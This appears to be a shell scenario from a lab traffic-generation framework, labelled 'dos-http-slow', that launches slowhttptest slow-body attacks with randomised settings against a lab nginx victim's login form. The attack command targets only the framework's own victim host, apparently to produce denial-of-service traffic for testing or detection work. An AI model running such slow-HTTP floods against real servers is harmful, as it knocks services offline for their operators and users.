# SPDX-License-Identifier: MIT
# label: dos-http-slow
# source: lab-slowhttptest
# needs: slowhttptest nginx
# seconds: 60
# Bodies that never end.
. $lab/victims.sh

servers() {
	_port=$(choose 80 8080)
	victim_site c "$_port"
}

scenario() {
	_count=$(choose 60 200)
	_gap=$(choose 5 10)
	setting options "-B -c $_count -i $_gap port $_port"
	cd "$work" || return
	attack t c tcp "$_port" -- timeout 50 slowhttptest -B -c "$_count" -i "$_gap" \
		-r "$(choose 10 50)" -s 8192 -l 45 -u "http://$(addr c):$_port/form/login"
}
